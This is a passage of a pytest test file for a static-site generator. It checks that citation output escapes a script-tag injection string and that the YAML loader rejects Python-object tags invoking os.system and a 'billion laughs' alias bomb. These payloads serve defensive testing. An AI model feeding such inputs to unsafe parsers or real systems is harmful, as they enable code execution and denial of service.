    assert set(entry.fields_dict) == {"author", "title", "school", "number", "year", "date", "version", "language"}
    assert "alert('script-tag')" in entry.fields_dict["number"].value
    records = rispy.loads((hostile_site / "downloads" / "cite" / "publication-demo-thesis-2022.ris").read_text(encoding="utf-8"))
    assert len(records) == 1
    assert records[0]["type_of_reference"] == "THES"
    assert records[0]["number"] == _flat(TEXT)
    assert records[0]["authors"] == [_flat(NAME)]


def test_the_cite_block_shows_the_data_as_text(hostile_pages: dict[str, BeautifulSoup]) -> None:
    """The APA citation shows the data as text (citeproc-py is given it escaped): an author's family
    name on the thesis, the knowledge base's publisher (site.yaml) on a topic."""
    for page, shown in (("publications/demo-thesis-2022/index.html", NAME.split(", ")[0]), ("en/topics/tidlig/index.html", TEXT)):
        block = hostile_pages[page].select_one("article .kb-cite")
        assert block is not None, page
        assert _flat(shown) in _flat(block.get_text()), page


# --- YAML-level attacks: rejected by the loader, with a location ---------------------------

YAML_TAG_CASES = [
    pytest.param(
        "name: !!python/object/apply:os.system ['echo pwned']\n",
        "data/themes/tema-a.yaml:2:7: name: cannot read value: the tag 'tag:yaml.org,2002:python/object/apply:os.system' is not allowed",
        id="python-object-apply-on-a-list",
    ),
    pytest.param(
        "name: !!python/object:generator.model.models.Text {nb: A, en: A}\n",
        "data/themes/tema-a.yaml:2:7: name: cannot read value: the tag 'tag:yaml.org,2002:python/object:generator.model.models.Text' is not allowed",
        id="python-object-on-a-mapping",
    ),
    pytest.param(
        "name: {nb: !!python/name:os.system '', en: A}\n",
        "data/themes/tema-a.yaml:2:12: name.nb: cannot read value: could not determine a constructor for the tag 'tag:yaml.org,2002:python/name:os.system'",
        id="python-name-on-a-scalar",
    ),
    pytest.param(
        "name: {nb: !!python/object/new:os.system [echo], en: A}\n",
        "data/themes/tema-a.yaml:2:12: name.nb: cannot read value: the tag 'tag:yaml.org,2002:python/object/new:os.system' is not allowed",
        id="python-object-new",
    ),
    pytest.param(
        "name: !custom {nb: A, en: A}\n",
        "data/themes/tema-a.yaml:2:7: name: cannot read value: the tag '!custom' is not allowed",
        id="local-tag",
    ),
    pytest.param(
        "name: !!set {nb, en}\n",
        "data/themes/tema-a.yaml:2:7: name: cannot read value: the tag 'tag:yaml.org,2002:set' is not allowed",
        id="set-tag",
    ),
]


@pytest.mark.parametrize(("body", "expected"), YAML_TAG_CASES)
def test_python_and_unknown_tags_are_rejected_with_a_location(fixture_project: Project, capsys, body: str, expected: str) -> None:
    """CSafeLoader never builds Python objects; our builder must not pass tagged lists or mappings
    through as plain data either (it builds values from the node tree itself)."""
    write(fixture_project.data_dir / "themes" / "tema-a.yaml", "id: tema-a\n" + body)
    assert main(["--root", str(fixture_project.root), "check"]) == 1
    lines = capsys.readouterr().err.splitlines()
    assert expected in lines
    assert [line for line in lines if "tema-a.yaml" in line and ": warning: " not in line] == [expected]


def test_alias_bomb_is_refused_quickly(fixture_project: Project, capsys) -> None:
    """'Billion laughs': nine levels of nine aliases would expand to 387 million strings."""
    lines = ["id: tema-a", "name: {nb: A, en: A}", "description:", "  a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"  a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    write(fixture_project.data_dir / "themes" / "tema-a.yaml", "\n".join(lines) + "\n")
    assert main(["--root", str(fixture_project.root), "check"]) == 1
    err = capsys.readouterr().err.splitlines()
    assert "data/themes/tema-a.yaml:4:7: description.a1[0]: YAML aliases ('*name') are not allowed: write the value out" in err
